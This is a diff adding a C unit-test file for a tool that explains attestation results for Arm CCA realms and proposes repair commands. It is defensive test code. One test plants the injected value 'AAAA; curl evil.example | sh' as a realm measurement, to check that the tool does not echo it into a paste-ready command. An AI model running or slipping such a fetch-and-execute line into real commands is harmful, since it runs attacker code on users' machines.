@@ -1,0 +1,263 @@
+// SPDX-License-Identifier: Apache-2.0
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <string.h>
+
+#include "encode.h"
+#include "session.h"
+#include "vector.h"
+
+#define REFERENCE "cca.realm.cca-realm-initial-measurement"
+#define SAMPLE_RIM \
+	"rof79/EF5xp4J8tvCJaInHPSvq9IMNT5ywXj6Ww/x7T6oEyvNqJr0JTPnHtzhhfkwYmq7hhN7dpdegPDnb2sfA=="
+
+static json_t *claims;		/* of the sample EAR; each test changes its own copy */
+static json_t *appraisal;	/* cpu0 of it, borrowed */
+
+static int setup(void **state)
+{
+	json_t *sample = vector_read_json("own-vectors/sample-ear.json");
+
+	(void)state;
+	claims = json_incref(json_object_get(sample, "claims"));
+	appraisal = json_object_get(json_object_get(claims, "submods"), "cpu0");
+	json_decref(sample);
+	return appraisal ? 0 : -1;
+}
+
+static int teardown(void **state)
+{
+	(void)state;
+	json_decref(claims);
+	return 0;
+}
+
+static void set_status(const char *status)
+{
+	json_object_set_new(appraisal, "ear.status", json_string(status));
+}
+
+static void set_claim(const char *name, int value)
+{
+	json_object_set_new(json_object_get(appraisal, "ear.trustworthiness-vector"), name,
+			    json_integer(value));
+}
+
+static void drop_evidence(void)
+{
+	json_object_del(appraisal, "ear.veraison.annotated-evidence");
+}
+
+static void set_evidence_rim(const char *rim)
+{
+	json_t *realm = json_object_get(json_object_get(json_object_get(appraisal,
+			"ear.veraison.annotated-evidence"), "cca"), "realm");
+
+	assert_int_equal(json_object_set_new(realm, "cca-realm-initial-measurement",
+					     json_string(rim)), 0);
+}
+
+/* The explanation of the claims as an EAR, in @out. */
+static void explain(const char *token, struct bytes *out)
+{
+	struct bytes ear = BYTES_INIT, payload = BYTES_INIT, cca = BYTES_INIT;
+	struct error e = ERROR_INIT;
+
+	if (token)
+		vector_read(token, &cca);
+	assert_int_equal(json_compact(claims, &payload, &e), 0);
+	assert_int_equal(encode_base64(ENCODE_BASE64URL, "{\"alg\":\"ES256\"}", 15, &ear), 0);
+	assert_int_equal(bytes_append_text(&ear, "."), 0);
+	assert_int_equal(encode_base64(ENCODE_BASE64URL, payload.data, payload.len, &ear), 0);
+	assert_int_equal(bytes_append_text(&ear, ".c2ln"), 0);
+	if (session_explain(&ear, token ? &cca : NULL, out, &e) < 0)
+		fail_msg("%s", e.text);
+	bytes_free(&ear);
+	bytes_free(&payload);
+	bytes_free(&cca);
+}
+
+static void expect(const char *token, const char *wanted)
+{
+	struct bytes out = BYTES_INIT;
+
+	explain(token, &out);
+	assert_string_equal(bytes_text(&out), wanted);
+	bytes_free(&out);
+}
+
+/* Claim 44238 of the token, by hand. */
+#define TOKEN_RIM "dAMsN73SkB900mqZ0L0nZBsSMztkXaibz9DDPUsfBQA="
+
+#define EXECUTABLES_33 \
+	"cpu0 executables is 33 [warning]: unrecognized run-time\n" \
+	"  no reference value is what this realm booted\n"
+#define CURE(rim) \
+	"  endorse this realm's RIM as reference value " REFERENCE ": " rim "\n" \
+	"  realmkey admin --url URL --admin-token-file FILE set-reference-value " REFERENCE " " rim "\n"
+
+static void test_rim_from_evidence(void **state)
+{
+	(void)state;
+	set_status("warning");
+	set_claim("executables", 33);
+	expect(NULL, EXECUTABLES_33 CURE(SAMPLE_RIM));
+}
+
+/* The realm's own token knows best what the realm is. */
+static void test_rim_from_token(void **state)
+{
+	(void)state;
+	set_status("warning");
+	set_claim("executables", 33);
+	expect("tfrmm-fakehost/head-9a7f8ef4-sha256-token.cbor", EXECUTABLES_33 CURE(TOKEN_RIM));
+}
+
+static void test_rim_unknown(void **state)
+{
+	(void)state;
+	set_status("warning");
+	set_claim("executables", 33);
+	drop_evidence();
+	expect(NULL, EXECUTABLES_33 "  endorse its RIM (`realmkey rim` prints it) as reference value "
+				    REFERENCE "\n");
+}
+
+/* A command to paste holds base64 and nothing else, whoever wrote the EAR. */
+static void test_rim_that_is_a_trap(void **state)
+{
+	(void)state;
+	set_status("warning");
+	set_claim("executables", 33);
+	set_evidence_rim("AAAA; curl evil.example | sh");
+	expect(NULL, EXECUTABLES_33 "  endorse its RIM (`realmkey rim` prints it) as reference value "
+				    REFERENCE "\n");
+}
+
+static void test_policy_without_cca(void **state)
+{
+	static const char policy[] =
+		"cpu0: hardware 97, configuration 36 and no instance-identity are what an attestation "
+		"policy without rules for Arm CCA says of every realm, as Trustee's own does: set one "
+		"that has such rules as policy \"default_cpu\"\n";
+	struct bytes out = BYTES_INIT;
+
+	(void)state;
+	set_status("contraindicated");
+	set_claim("executables", 33);
+	set_claim("hardware", 97);
+	set_claim("configuration", 36);
+	set_claim("instance-identity", 0);
+	explain(NULL, &out);
+	assert_non_null(strstr(bytes_text(&out), EXECUTABLES_33 CURE(SAMPLE_RIM)));
+	assert_non_null(strstr(bytes_text(&out), "cpu0 hardware is 97 [contraindicated]: "));
+	assert_non_null(strstr(bytes_text(&out), "cpu0 configuration is 36 [warning]: "));
+	assert_int_equal(strncmp(bytes_text(&out), policy, strlen(policy)), 0);
+	bytes_free(&out);
+}
+
+static void test_each_claim_has_its_cure(void **state)
+{
+	static const struct {
+		const char *claim;
+		int value;
+		const char *words;
+	} cases[] = {
+		{ "executables", 96, "boot another image" },
+		{ "instance-identity", 97, "enrol its CPAK" },
+		{ "instance-identity", 96, "does not trust this platform's key" },
+		{ "hardware", 97, "genuine" },
+		{ "configuration", 32, "configuration or life cycle" },
+		{ "runtime-opaque", 96, "memory" },
+		{ "storage-opaque", 96, "cpu0 storage-opaque is 96 [contraindicated]" },
+		{ "file-system", -128, "cpu0 file-system is -128 [contraindicated]" },
+	};
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct bytes out = BYTES_INIT;
+
+		set_status("contraindicated");
+		set_claim(cases[i].claim, cases[i].value);
+		explain(NULL, &out);
+		if (!strstr(bytes_text(&out), cases[i].words))
+			fail_msg("%s %d: %s", cases[i].claim, cases[i].value, bytes_text(&out));
+		assert_null(strstr(bytes_text(&out), REFERENCE));
+		bytes_free(&out);
+		teardown(state);
+		setup(state);
+	}
+}
+
+static void test_affirming_yet_denied(void **state)
+{
+	(void)state;
+	expect(NULL, "the attestation is affirming: the resource policy itself does not release "
+		     "this\n");
+}
+
+static void test_status_without_a_reason(void **state)
+{
+	(void)state;
+	set_status("warning");
+	expect(NULL, "cpu0 is 'warning', and no claim of it says why\n");
+}
+
+static void test_second_appraisal(void **state)
+{
+	json_t *gpu = json_deep_copy(appraisal);
+
+	(void)state;
+	json_object_set_new(json_object_get(claims, "submods"), "gpu0", gpu);
+	appraisal = gpu;
+	set_status("warning");
+	set_claim("hardware", 32);
+	expect(NULL, "gpu0 hardware is 32 [warning]: genuine but known bugs or vulnerabilities\n"
+		     "  the verifier does not take the platform for genuine; are its CPAK and its "
+		     "firmware known there?\n");
+}
+
+static void test_name_with_escapes(void **state)
+{
+	json_t *submods = json_object_get(claims, "submods");
+
+	(void)state;
+	set_status("warning");
+	json_object_set(submods, "\033[31m\ncpu", appraisal);
+	json_object_del(submods, "cpu0");
+	expect(NULL, "?[31m?cpu is 'warning', and no claim of it says why\n");
+}
+
+static void test_no_ear(void **state)
+{
+	struct bytes ear = BYTES_INIT, out = BYTES_INIT;
+	struct error e = ERROR_INIT;
+
+	(void)state;
+	assert_int_equal(session_explain(&ear, NULL, &out, &e), -1);
+	assert_int_equal(bytes_append_text(&ear, "e30.e30.c2ln"), 0);
+	assert_int_equal(session_explain(&ear, NULL, &out, &e), -1);
+	assert_int_equal(out.len, 0);
+	bytes_free(&ear);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test_setup_teardown(test_rim_from_evidence, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_rim_from_token, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_rim_unknown, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_rim_that_is_a_trap, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_policy_without_cca, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_each_claim_has_its_cure, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_affirming_yet_denied, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_status_without_a_reason, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_second_appraisal, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_name_with_escapes, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_no_ear, setup, teardown),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
